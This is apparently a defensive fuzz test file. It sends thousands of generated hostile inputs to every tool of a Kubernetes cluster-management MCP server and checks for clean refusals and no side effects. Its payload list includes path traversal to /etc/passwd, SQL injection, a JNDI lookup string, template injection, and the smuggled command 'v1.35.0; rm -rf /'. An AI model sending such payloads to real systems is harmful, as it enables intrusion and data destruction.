/**
 * Hostile input against every tool, over HTTP, with fast-check: ≥1,000 generated calls per tool (11,000+
 * in all) mixing plausible values with wrong types, huge and empty strings, path traversal, label-selector
 * and newline injection, control characters, unicode and unknown fields. For every call: an HTTP 200 with
 * either a result or a clear refusal (a schema error naming the field, or one of our error codes with a
 * reason) — never a 5xx, a crash or a stack trace; the server still answers afterwards; and nothing was
 * created or started by any of it (the fixture cluster carries prevent-deletion, the namespace has no
 * ClusterClass, so no generated call can legitimately change anything either).
 */
import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { tools } from '../../shared/mcp/registry.ts';
import { authHeaders } from '../support/auth.ts';
import { stuckCluster } from '../support/clusters.ts';
import { modernRpc, startTestServer } from '../support/mcp.ts';
import { useNamespace } from '../support/sandbox.ts';

const runsPerTool = 1000;
const ns = await useNamespace('fuzz');
const url = await startTestServer();

const callTool = (name: string, args: unknown) => modernRpc(url, authHeaders().authorization, 'tools/call', { name, arguments: args }, name);

const hostile = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '../../etc/passwd',
    '..%2F..%2Fsecrets',
    '/api/v1/namespaces/kube-system/secrets',
    'a,b!=c',
    'x in (a,b),y notin (c)',
    'app=web\nadmin=true',
    "'; DROP TABLE clusters; --",
    '${jndi:ldap://example.invalid/a}',
    '{{7*7}}',
    '\u0000\u0001\u001f',
    '\u202eevil',
    'ｄｅｆａｕｌｔ',
    'default\u200b',
    'kube-system',
    '*',
    '-1',
    '1e309',
    'v1.35.0; rm -rf /',
    'v999.999.999',
    'capi-mcp.io/prevent-deletion=false',
  ),
  fc.string({ maxLength: 300 }),
  fc.string({ unit: 'grapheme', maxLength: 100 }),
  fc.constantFrom('a'.repeat(70_000), '🙂'.repeat(5_000)),
);

const wrongType = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string(), { maxLength: 5 }),
  fc.dictionary(fc.string({ maxLength: 10 }), fc.string({ maxLength: 10 }), { maxKeys: 5 }),
);

/** Values that pass the schemas, so generated calls also reach the handlers and the API server. */
const plausible: Record<string, fc.Arbitrary<unknown>> = {
  namespace: fc.constantFrom(ns.name, 'kube-system', 'no-such-namespace'),
  name: fc.constantFrom('fuzz-target', 'no-such-cluster', 'a'),
  confirm: fc.constantFrom('fuzz-target', 'nope'),
  cluster_class: fc.constantFrom('no-such-class', 'quick-start'),
  kubernetes_version: fc.constantFrom('v1.35.0', 'v1.36.0', 'v1.30.0'),
  control_plane_replicas: fc.integer({ min: -3, max: 9 }),
  limit: fc.integer({ min: -1, max: 300 }),
  operation_id: fc.constantFrom('create-x-0123456789', 'nope'),
  label_selector: fc.constantFrom('app=web', 'capi-mcp.io/test=true', 'x in (a)'),
};

function argumentsFor(tool: (typeof tools)[number]): fc.Arbitrary<unknown> {
  const keys = Object.keys(tool.inputSchema.shape);
  const field = (key: string) => fc.oneof({ weight: 3, arbitrary: plausible[key] ?? hostile }, { weight: 2, arbitrary: hostile }, { weight: 1, arbitrary: wrongType });
  const object = fc.record(Object.fromEntries(keys.map((k) => [k, field(k)])), { requiredKeys: [] });
  return fc.oneof(
    { weight: 8, arbitrary: object },
    { weight: 1, arbitrary: fc.tuple(object, fc.dictionary(fc.string({ maxLength: 20 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 })).map(([a, b]) => ({ ...b, ...a })) },
    { weight: 1, arbitrary: wrongType },
  );
}

/** A refusal an agent can act on: a schema error, or one of our codes with a reason. */
const clearRefusal = /^(InvalidInput|NotFound|Forbidden|Conflict|Upstream|Timeout): \S|Invalid arguments for tool|Input validation error|MCP error -32602/;

let calls = 0;
const refusals = new Map<string, number>();
const allClusters = async () =>
  new Set((await ns.objects.list('cluster.x-k8s.io/v1beta2', 'Cluster')).items.map((c) => `${c.metadata?.namespace}/${c.metadata?.name}`));
let before_: Set<string>;

before(async () => {
  await ns.objects.create(stuckCluster(ns.name, 'fuzz-target', { 'capi-mcp.io/prevent-deletion': 'true' }));
  before_ = await allClusters();
});

describe('every tool under hostile input', () => {
  for (const tool of tools) {
    it(`${tool.name}: ${runsPerTool} generated calls, each answered with a result or a clear refusal`, async () => {
      await fc.assert(
        fc.asyncProperty(argumentsFor(tool), async (args) => {
          calls++;
          const { status, body } = await callTool(tool.name, args);
          assert.equal(status, 200, JSON.stringify(body).slice(0, 500));
          if (body.error) {
            assert.equal(body.error.code, -32602, JSON.stringify(body.error).slice(0, 500));
            return;
          }
          const text: string = body.result.content?.[0]?.text ?? '';
          assert.doesNotMatch(text, /\n\s+at .+:\d+:\d+/, 'no stack trace');
          if (body.result.isError) {
            assert.match(text, clearRefusal, text.slice(0, 500));
            const code = /^(\w+):/.exec(text)?.[1] ?? 'schema';
            refusals.set(code, (refusals.get(code) ?? 0) + 1);
          }
        }),
        { numRuns: runsPerTool },
      );
    });
  }

  it(`changed nothing: no new Cluster anywhere, no operation started, the server still healthy`, async () => {
    assert.ok(calls >= runsPerTool * tools.length, `${calls} calls made`);
    const after_ = await allClusters();
    assert.deepEqual([...after_].filter((c) => !before_.has(c)), [], 'no Cluster appeared in any namespace');
    assert.ok(after_.has(`${ns.name}/fuzz-target`), 'the protected fixture survived');
    const { body } = await callTool('list_operations', {});
    assert.deepEqual(body.result.structuredContent.operations, []);
    assert.equal((await fetch(new URL('/healthz', url))).status, 200);
    console.log(`fuzz: ${calls} calls; refusals by kind: ${JSON.stringify(Object.fromEntries(refusals))}`);
  });
});
